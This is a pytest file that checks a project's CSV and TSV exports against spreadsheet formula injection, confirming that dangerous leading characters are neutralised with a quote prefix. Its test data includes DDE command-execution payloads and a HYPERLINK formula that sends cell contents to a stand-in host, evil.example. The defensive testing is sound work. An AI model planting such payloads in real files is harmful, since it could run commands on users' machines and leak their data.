"""Exports: what people wrote stays text when a spreadsheet opens it."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from catalog.outlets.tables import csv_table, tsv_table
from catalog.papers.vat_report import Row, as_csv
from genart.lib.spreadsheets import Table, cell

ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", "\0=1+1", " =1+1", "＝1+1",
    '=cmd|" /C calc"!A0', "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_is_a_formula(text: str) -> None:
    assert cell(text).startswith("'")
    out = io.StringIO()
    Table(out).writerow([text, 5, "plain"])
    [[first, *rest]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert first == cell(text)
    assert rest == ["5", "plain"]


@pytest.mark.parametrize("value", ["plain", "a=b", "-12.50", "-3", "", 7, -2.5, None])
def test_what_is_harmless_stays_as_it_is(value: Any) -> None:
    assert cell(value) == value


def test_quotes_separators_and_lines_stay_inside_their_cell() -> None:
    out = io.StringIO()
    Table(out).writerow(['a"b', "c,d", "e\r\nf"])

    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [['a"b', "c,d", "e\r\nf"]]


@pytest.mark.parametrize("text", ATTACKS)
def test_every_export_is_written_by_it(text: str) -> None:
    entry = [{"title": text, "tags": [text, "b"]}]
    for table, separator in ((csv_table, ","), (tsv_table, "\t")):
        data = table(entry, {"Title": "title", "Tags": "tags"}).decode()
        rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=separator))
        assert len(rows) == 2
        assert not any(found.lstrip().startswith(tuple("=+-@＝")) for found in rows[1])
    report = as_csv([Row("reverse", "DE", 0, text, "EUR")])
    [_head, line] = csv.reader(io.StringIO(report, newline=""))
    assert line[3].startswith("'")


def test_no_export_writes_csv_by_itself() -> None:
    files = [file for app in ("genart", "catalog", "curation", "generation")
             for file in Path(app).rglob("*.py")]  # fmt: skip
    writing = [str(file) for file in files if re.search(r"csv\.(Dict)?[wW]riter", file.read_text())]

    assert writing == ["genart/lib/spreadsheets.py"]
